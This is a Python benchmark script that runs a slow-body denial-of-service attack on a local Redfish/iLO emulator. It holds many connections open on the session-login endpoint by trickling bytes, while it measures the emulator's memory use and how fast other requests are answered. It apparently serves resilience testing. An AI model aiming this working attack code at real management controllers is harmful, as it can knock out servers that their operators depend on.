"""Slow-body attack on the emulator; prints peak RSS and ordinary-request latency (bench only)."""
import asyncio, ssl, sys, time

pid, port, n, secs = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
refused = 0

def rss_mb():
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0

async def slow_login(i):
    global refused
    try:
        r, w = await asyncio.open_connection("127.0.0.1", port, ssl=ctx)
        w.write(b"POST /redfish/v1/SessionService/Sessions/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1048576\r\n\r\n{")
        await w.drain()
        end = time.monotonic() + secs
        while time.monotonic() < end:
            await asyncio.sleep(1)
            w.write(b" "); await w.drain()
            if r.at_eof():
                break
        w.close()
    except Exception:
        refused += 1

async def ordinary(ilo, out):
    end = time.monotonic() + secs
    while time.monotonic() < end:
        t0 = time.monotonic()
        try:
            r, w = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port + ilo, ssl=ctx), 30)
            w.write(b"GET /redfish/v1/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"); await w.drain()
            await asyncio.wait_for(r.read(), 30); w.close()
            out.append(time.monotonic() - t0)
        except Exception:
            out.append(float("inf"))
        await asyncio.sleep(0.5)

async def main():
    base = rss_mb(); peak = base
    lat0, lat1 = [], []
    tasks = [asyncio.create_task(slow_login(i)) for i in range(n)]
    probes = [asyncio.create_task(ordinary(0, lat0)), asyncio.create_task(ordinary(1, lat1))]
    end = time.monotonic() + secs
    while time.monotonic() < end:
        peak = max(peak, rss_mb()); await asyncio.sleep(0.2)
    await asyncio.gather(*probes); [t.cancel() for t in tasks]
    def fmt(l):
        ok = sorted(x for x in l if x != float("inf"))
        return f"{len(ok)}/{len(l)} answered, median {ok[len(ok)//2]*1000:.0f} ms, max {ok[-1]*1000:.0f} ms" if ok else "none answered"
    print(f"slow-body attack: {n} connections x 1 MB announced, trickled 1 byte/s for {secs:.0f} s")
    print(f"emulator RSS: {base:.0f} MB before, peak {peak:.0f} MB")
    print(f"attack connections failed/refused: {refused}")
    print(f"GET /redfish/v1/ on the attacked iLO: {fmt(lat0)}")
    print(f"GET /redfish/v1/ on another iLO:     {fmt(lat1)}")

asyncio.run(main())
